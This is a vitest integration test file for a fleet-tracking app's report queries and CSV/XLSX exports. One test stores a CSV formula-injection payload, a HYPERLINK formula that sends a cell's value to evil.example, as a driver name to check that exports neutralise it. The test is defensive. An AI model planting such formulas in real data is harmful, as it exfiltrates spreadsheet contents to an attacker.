import { ALERT_CODE, type GeofenceShape, geofenceBoundingBox, zonedDay } from "@armada/domain";
import { eq } from "drizzle-orm";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestApp, type TestApp } from "../../testing/testApp.js";
import { rawAlerts } from "../alerts/alerts.tables.js";
import { users } from "../auth/auth.tables.js";
import { rollUpDriving } from "../driver-scores/drivingRollup.js";
import { vehicles } from "../fleet/fleet.tables.js";
import { geofences } from "../geofences/geofences.tables.js";
import { positions } from "../positions/positions.tables.js";
import { activityRollupPart } from "./activityRollup.js";

const FILTER = `$filter: ReportFilter!`;
const TRIPS = `query (${FILTER}) { tripReport(filter: $filter) { isSuccessful errorName message
  data { licensePlate driverName startTime endTime startAddress endAddress distanceKm durationSeconds maxSpeed avgSpeed }
  pagination { total page show } } }`;
const STOPS = `query (${FILTER}) { stopReport(filter: $filter) { isSuccessful
  data { licensePlate kind durationSeconds idleSeconds parkedSeconds address } pagination { total } } }`;
const VISITS = `query (${FILTER}) { geofenceVisitReport(filter: $filter) { isSuccessful
  data { licensePlate fenceName enterTime exitTime dwellSeconds } pagination { total } } }`;
const ALERTS = `query (${FILTER}) { alertSummaryReport(filter: $filter) { isSuccessful
  data { summary { total falseAlerts falseAlertRate } byCode { key label total falseAlerts falseAlertRate }
  byVehicle { key label total } byDriver { key label total } } } }`;
const UTILISATION = `query (${FILTER}) { utilisationReport(filter: $filter) { isSuccessful
  data { licensePlate day drivingSeconds idleSeconds parkedSeconds offlineSeconds } pagination { total } } }`;
const SCORES = `query (${FILTER}) { driverScoreReport(filter: $filter) { isSuccessful
  data { driverId fullname score finalGrade distanceKm } pagination { total } } }`;

type Answer<T> = { isSuccessful: boolean; errorName: string | null; message: string } & T;

describe("reports", () => {
  let t: TestApp;
  let admin: string;
  let vehicle: { id: number; companyId: number; driverId: number; licensePlate: string };
  // 08:00 WIB three days ago
  const day = zonedDay(new Date(Date.now() - 3 * 86_400_000), "Asia/Jakarta");
  const start = Date.parse(`${day}T01:00:00Z`);
  const period = { startDate: day, endDate: day };
  const ask = async <T>(query: string, filter: Record<string, unknown>, cookie = admin, language = "id") => {
    const result = await t.graphql<Record<string, Answer<T>>>(
      cookie,
      query,
      { filter },
      { "accept-language": language },
    );
    const [answer] = Object.values(result.data ?? {});
    if (!answer) throw new Error(JSON.stringify(result.errors));
    return answer;
  };
  const exportFile = (kind: string, query: string, cookie = admin, language = "id") =>
    t.app.inject({
      method: "GET",
      url: `/api/reports/${kind}/export?${query}`,
      headers: { cookie, "accept-language": language },
    });

  beforeAll(async () => {
    t = await startTestApp();
    admin = await t.login("admin");
    const db = t.database.db;
    const [row] = await db
      .select({
        id: vehicles.id,
        companyId: vehicles.companyId,
        driverId: vehicles.driver1Id,
        licensePlate: vehicles.licensePlate,
      })
      .from(vehicles)
      .where(eq(vehicles.licensePlate, "B 9104 KXA"));
    if (!row?.driverId) throw new Error("demo vehicle with a driver");
    vehicle = { ...row, driverId: row.driverId };
    const depot: GeofenceShape = { type: "C", circData: { lat: -6.2, lng: 106.9, radius: 300 } };
    await db.insert(geofences).values({
      companyId: vehicle.companyId,
      fenceName: "Gudang Uji Laporan",
      type: "C",
      circData: depot.circData,
      ...geofenceBoundingBox(depot),
    });
    // 30 min east at ~60 km/h into the depot, 20 min parked there (5 idling), 20 min on east; a fix every 30 s
    const fix = (second: number, longitude: number, speed: number, ignition: boolean) => ({
      vehicleId: vehicle.id,
      companyId: vehicle.companyId,
      protocol: "osmand",
      fixTime: new Date(start + second * 1000),
      latitude: -6.2,
      longitude,
      speed,
      ignition,
    });
    const track = [
      ...Array.from({ length: 61 }, (_, index) => fix(index * 30, 106.9 - (60 - index) * 0.0045, 60, true)),
      ...Array.from({ length: 40 }, (_, index) => fix(1830 + index * 30, 106.9, 0, index < 10)),
      ...Array.from({ length: 41 }, (_, index) => fix(3030 + index * 30, 106.9 + index * 0.0045, 60, true)),
    ];
    await db.insert(positions).values(track);
    await rollUpDriving(db, [activityRollupPart]);
    const alert = (alertCode: number, minutes: number, isFalseAlert: boolean) => ({
      companyId: vehicle.companyId,
      vehicleId: vehicle.id,
      driverId: vehicle.driverId,
      alertCode,
      isFalseAlert,
      createdOn: new Date(start + minutes * 60_000),
    });
    await db
      .insert(rawAlerts)
      .values([
        alert(ALERT_CODE.overspeed, 5, false),
        alert(ALERT_CODE.overspeed, 10, true),
        alert(ALERT_CODE.harshBraking, 15, false),
      ]);
  });
  afterAll(() => t.close());

  it("lists the trips with their driver, addresses, distance, duration and speeds", async () => {
    const answer = await ask<{ data: Record<string, unknown>[]; pagination: { total: number } }>(TRIPS, {
      ...period,
      vehicleId: vehicle.id,
    });
    expect(answer.isSuccessful).toBe(true);
    expect(answer.pagination.total).toBe(2);
    const [first, second] = answer.data;
    expect(first).toMatchObject({ licensePlate: "B 9104 KXA", maxSpeed: 60, durationSeconds: 1830 });
    expect(first?.startTime).toBe(new Date(start).toISOString());
    expect(Number(first?.distanceKm)).toBeGreaterThan(29);
    expect(Number(first?.distanceKm)).toBeLessThan(31);
    expect(Number(first?.avgSpeed)).toBeGreaterThan(55);
    expect(typeof first?.driverName).toBe("string");
    expect(String(first?.endAddress).length).toBeGreaterThan(0);
    expect(second?.startTime).toBe(new Date(start + 3000 * 1000).toISOString());
  });

  it("lists the stop with its idle and parked time and address", async () => {
    const answer = await ask<{ data: Record<string, unknown>[] }>(STOPS, {
      ...period,
      vehicleId: vehicle.id,
    });
    expect(answer.data).toEqual([
      expect.objectContaining({
        kind: "parking",
        durationSeconds: 1170,
        idleSeconds: 300,
        parkedSeconds: 870,
      }),
    ]);
  });

  it("shows the stop report's stops in the route history of the same fixes", async () => {
    const report = await ask<{ data: Record<string, unknown>[] }>(
      `query (${FILTER}) { stopReport(filter: $filter) { isSuccessful
        data { startTime endTime durationSeconds latitude longitude idleSeconds parkedSeconds } } }`,
      { ...period, vehicleId: vehicle.id },
    );
    const route = await t.graphql<{
      routeHistory: { data: { stops: unknown[]; summary: { stopCount: number; stoppedSeconds: number } } };
    }>(
      admin,
      `query ($filter: RouteHistoryFilter!) { routeHistory(filter: $filter) { data {
        stops { startTime endTime durationSeconds latitude longitude engineOn } summary { stopCount stoppedSeconds } } } }`,
      {
        filter: {
          vehicleId: vehicle.id,
          startTime: new Date(start).toISOString(),
          endTime: new Date(start + 2 * 3_600_000).toISOString(),
        },
      },
    );
    const history = route.data?.routeHistory.data;
    expect(history?.stops).toEqual(
      report.data.map(({ idleSeconds, parkedSeconds, ...stop }) => ({
        ...stop,
        startTime: new Date(String(stop.startTime)).toISOString(),
        endTime: new Date(String(stop.endTime)).toISOString(),
        engineOn: Number(idleSeconds) > Number(parkedSeconds),
      })),
    );
    expect(history?.summary).toEqual({ stopCount: 1, stoppedSeconds: 1170 });
  });

  it("lists the geofence visit with its dwell", async () => {
    const answer = await ask<{ data: Record<string, unknown>[] }>(VISITS, {
      ...period,
      vehicleId: vehicle.id,
    });
    const visit = answer.data.find((row) => row.fenceName === "Gudang Uji Laporan");
    expect(visit).toMatchObject({ licensePlate: "B 9104 KXA" });
    expect(Number(visit?.dwellSeconds)).toBeGreaterThanOrEqual(1200);
    expect(Number(visit?.dwellSeconds)).toBeLessThan(1400);
  });

  it("sums the alerts by code, vehicle and driver with the false-alert rate", async () => {
    const answer = await ask<{
      data: {
        summary: { total: number; falseAlerts: number };
        byCode: { key: number; label: string; total: number; falseAlertRate: number }[];
        byVehicle: { key: number; total: number }[];
        byDriver: { key: number; total: number }[];
      };
    }>(ALERTS, { ...period, vehicleId: vehicle.id });
    const overspeed = answer.data.byCode.find((row) => row.key === ALERT_CODE.overspeed);
    expect(overspeed).toMatchObject({ total: 2, falseAlertRate: 50 });
    expect(overspeed?.label.length).toBeGreaterThan(0);
    expect(answer.data.byVehicle).toEqual([
      { key: vehicle.id, label: "B 9104 KXA", total: answer.data.summary.total },
    ]);
    expect(answer.data.byDriver.find((row) => row.key === vehicle.driverId)?.total).toBeGreaterThanOrEqual(3);
  });

  it("splits the day into driving, idle, parked and offline time that sum to 24 hours", async () => {
    const answer = await ask<{ data: Record<string, number>[] }>(UTILISATION, {
      ...period,
      vehicleId: vehicle.id,
    });
    const [only] = answer.data;
    expect(answer.data).toHaveLength(1);
    expect(only).toMatchObject({ drivingSeconds: 3060, idleSeconds: 300, parkedSeconds: 870 });
    const total =
      (only?.drivingSeconds ?? 0) +
      (only?.idleSeconds ?? 0) +
      (only?.parkedSeconds ?? 0) +
      (only?.offlineSeconds ?? 0);
    expect(total).toBe(86_400);
  });

  it("scores the company's drivers over the period", async () => {
    const answer = await ask<{
      data: { driverId: number; score: number; distanceKm: number; finalGrade: string }[];
    }>(SCORES, period);
    const mine = answer.data.find((row) => row.driverId === vehicle.driverId);
    expect(mine?.distanceKm).toBeGreaterThan(45);
    expect(mine?.finalGrade).toMatch(/^[A-E]$/);
    const scores = answer.data.map((row) => row.score);
    expect(scores).toEqual([...scores].sort((a, b) => b - a));
  });

  it("exports the trips to an XLSX file holding the rows, headers in the caller's language", async () => {
    const query = `format=xlsx&startDate=${day}&endDate=${day}&vehicleId=${vehicle.id}`;
    const response = await exportFile("trips", query);
    expect(response.statusCode).toBe(200);
    expect(response.headers["content-type"]).toContain("spreadsheetml");
    expect(response.headers["content-disposition"]).toContain(`perjalanan-${day}-${day}.xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    expect(sheet?.name).toBe("Perjalanan");
    expect(sheet?.getRow(1).getCell(1).value).toBe("Kendaraan");
    expect(sheet?.getRow(1).getCell(3).value).toBe("Mulai (WIB)");
    expect(sheet?.rowCount).toBe(3);
    expect(sheet?.getRow(2).getCell(1).value).toBe("B 9104 KXA");
    // 01:00 UTC is 08:00 WIB on the sheet
    const started = sheet?.getRow(2).getCell(3).value as Date;
    expect(started.toISOString()).toBe(`${day}T08:00:00.000Z`);
    expect(Number(sheet?.getRow(2).getCell(7).value)).toBeGreaterThan(29);

    const english = await exportFile(
      "utilisation",
      `format=csv&startDate=${day}&endDate=${day}`,
      admin,
      "en",
    );
    expect(english.headers["content-type"]).toContain("text/csv");
    const lines = english.body
      .replace(/^\uFEFF/, "")
      .trim()
      .split("\n");
    expect(english.body.startsWith("\uFEFF")).toBe(true);
    expect(lines[0]).toBe("Vehicle,Date,Driving (h),Idle (h),Parked (h),Offline (h)");
    expect(lines.some((line) => line.startsWith(`B 9104 KXA,${day},0.85,0.08,0.24,`))).toBe(true);
  });

  it("exports text that starts like a formula as text in every CSV, numbers as numbers", async () => {
    const db = t.database.db;
    const [driver] = await db.select({ name: users.name }).from(users).where(eq(users.id, vehicle.driverId));
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"Klik")';
    await db.update(users).set({ name: hyperlink }).where(eq(users.id, vehicle.driverId));
    await db
      .update(geofences)
      .set({ fenceName: "-Gudang Uji Laporan" })
      .where(eq(geofences.fenceName, "Gudang Uji Laporan"));
    try {
      const csv = async (kind: string, vehicleOnly = true) => {
        const response = await exportFile(
          kind,
          `format=csv&startDate=${day}&endDate=${day}${vehicleOnly ? `&vehicleId=${vehicle.id}` : ""}`,
        );
        expect(response.statusCode, kind).toBe(200);
        return response.body;
      };
      const quotedHyperlink = `"'${hyperlink.replaceAll('"', '""')}"`;
      expect(await csv("driverScores", false)).toContain(`\n${quotedHyperlink},`);
      expect(await csv("alerts", false)).toContain(`,${quotedHyperlink},`);
      expect(await csv("trips")).toContain(`,${quotedHyperlink},`);
      expect(await csv("geofenceVisits")).toContain(`B 9104 KXA,'-Gudang Uji Laporan,`);
      // the stop's latitude -6.2 is a number and stays one
      expect(await csv("stops")).toMatch(/,-6\.2,106\.9$/);
    } finally {
      await db
        .update(users)
        .set({ name: String(driver?.name) })
        .where(eq(users.id, vehicle.driverId));
      await db
        .update(geofences)
        .set({ fenceName: "Gudang Uji Laporan" })
        .where(eq(geofences.fenceName, "-Gudang Uji Laporan"));
    }
  });

  it("refuses a period over 31 days in Indonesian, a foreign vehicle, and callers without the report's key", async () => {
    const long = await ask(TRIPS, { startDate: "2026-01-01", endDate: "2026-02-15" });
    expect(long).toMatchObject({ isSuccessful: false, errorName: "ValidationError" });
    expect(long.message).toContain("31");
    const badExport = await exportFile("trips", "startDate=2026-01-01&endDate=2026-02-15");
    expect(badExport.statusCode).toBe(400);

    const lain = await t.login("lain");
    expect(await ask(TRIPS, { ...period, vehicleId: vehicle.id }, lain)).toMatchObject({
      errorName: "NotFound",
    });
    expect(await ask<{ pagination: { total: number } }>(TRIPS, period, lain)).toMatchObject({
      pagination: { total: 0 },
    });
    expect(
      (await exportFile("trips", `startDate=${day}&endDate=${day}&vehicleId=${vehicle.id}`, lain)).statusCode,
    ).toBe(404);

    const tripsOnly = await t.loginAs(["f1a-report-trip:read"]);
    expect((await ask(TRIPS, period, tripsOnly)).isSuccessful).toBe(true);
    const denied = await t.graphql(tripsOnly, STOPS, { filter: period });
    expect(denied.errors?.[0]?.extensions?.code).toBe("FORBIDDEN");
    expect((await exportFile("stops", `startDate=${day}&endDate=${day}`, tripsOnly)).statusCode).toBe(403);
  });
});
